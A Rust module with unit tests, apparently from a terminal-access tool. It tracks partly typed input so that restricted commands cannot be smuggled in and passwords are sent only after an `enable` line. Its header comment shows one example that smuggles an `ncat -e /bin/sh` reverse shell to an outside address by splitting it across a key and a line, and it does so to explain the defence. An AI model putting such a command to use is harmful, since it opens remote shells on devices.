//! What was typed into a terminal, as far as it decides what may be typed next.
//!
//! Two things. Keys leave their characters in the device's line, and what is typed next is read together with them: `n`
//! and then `cat -e /bin/sh 203.0.113.9` is `ncat …`. Where commands are restricted, a line is refused behind them.
//! And a password is an answer: it is typed only when the last thing that was typed is a line that makes devices ask
//! for one (`enable`), since a question alone is text that a guest can have printed.

use std::sync::{Mutex, PoisonError};

use crate::typed::{Key, Step};

/// What stands in the device's line, as far as the host can know.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub(crate) struct Typed {
    /// Characters were typed since the last line end.
    pub(crate) begun: bool,
    /// The last thing that was typed, all of it, is a line that makes devices ask for a password.
    pub(crate) asked: bool,
}

impl Typed {
    /// After a line or key. `asks`: the line is one that makes devices ask for a password.
    pub(crate) fn then(self, step: &Step, asks: bool) -> Self {
        match step {
            Step::Line(_) => Self { begun: false, asked: asks && !self.begun },
            Step::Key(Key::Y | Key::N | Key::Q) => Self { begun: true, asked: false },
            Step::Key(Key::Enter) => Self::default(),
            // A space before a command is nothing. What Ctrl-C and Ctrl-Z do to a line is each program's affair.
            Step::Key(Key::Space | Key::CtrlC | Key::CtrlZ) => Self { asked: false, ..self },
        }
    }

    /// After bytes as they are.
    pub(crate) fn then_bytes(bytes: &[u8]) -> Self {
        Self { begun: !bytes.ends_with(b"\n") && !bytes.ends_with(b"\r"), asked: false }
    }
}

/// The same, shared by both sides of a terminal.
#[derive(Debug, Default)]
pub(crate) struct Keyboard(Mutex<Typed>);

impl Keyboard {
    pub(crate) fn typed(&self) -> Typed {
        *self.0.lock().unwrap_or_else(PoisonError::into_inner)
    }

    pub(crate) fn set(&self, typed: Typed) {
        *self.0.lock().unwrap_or_else(PoisonError::into_inner) = typed;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn after(steps: &[Step]) -> Typed {
        steps.iter().fold(Typed::default(), |typed, step| {
            typed.then(step, matches!(step, Step::Line(line) if line == "enable"))
        })
    }

    fn line(text: &str) -> Step {
        Step::Line(text.into())
    }

    #[test]
    fn letters_stand_in_the_line_until_it_ends() {
        for key in [Key::Y, Key::N, Key::Q] {
            let key = Step::Key(key);
            assert!(after(&[line("show x"), key.clone()]).begun);
            for other in [Key::Space, Key::CtrlC, Key::CtrlZ] {
                assert!(after(&[key.clone(), Step::Key(other)]).begun, "{other:?}");
            }
            assert!(!after(&[key.clone(), Step::Key(Key::Enter)]).begun);
            assert!(!after(&[key, line("")]).begun);
        }
        assert!(!after(&[Step::Key(Key::Space), Step::Key(Key::CtrlC)]).begun);
        assert!(Typed::then_bytes(b"show\nx").begun);
        assert!(!Typed::then_bytes(b"show\r").begun && !Typed::then_bytes(b"show\r\n").begun);
    }

    #[test]
    fn a_password_was_asked_for_by_a_whole_line_and_nothing_after_it() {
        assert!(after(&[line("enable")]).asked);
        assert!(after(&[Step::Key(Key::Space), line("enable")]).asked);
        for steps in [
            vec![],
            vec![line("show enable")],
            vec![line("enable"), line("show x")],
            vec![line("enable"), Step::Key(Key::Enter)],
            vec![line("enable"), Step::Key(Key::CtrlC)],
            vec![line("enable"), Step::Key(Key::Space)],
            // The device reads `nenable`.
            vec![Step::Key(Key::N), line("enable")],
        ] {
            assert!(!after(&steps).asked, "{steps:?}");
        }
        assert!(!Typed::then_bytes(b"enable\n").asked);
    }
}
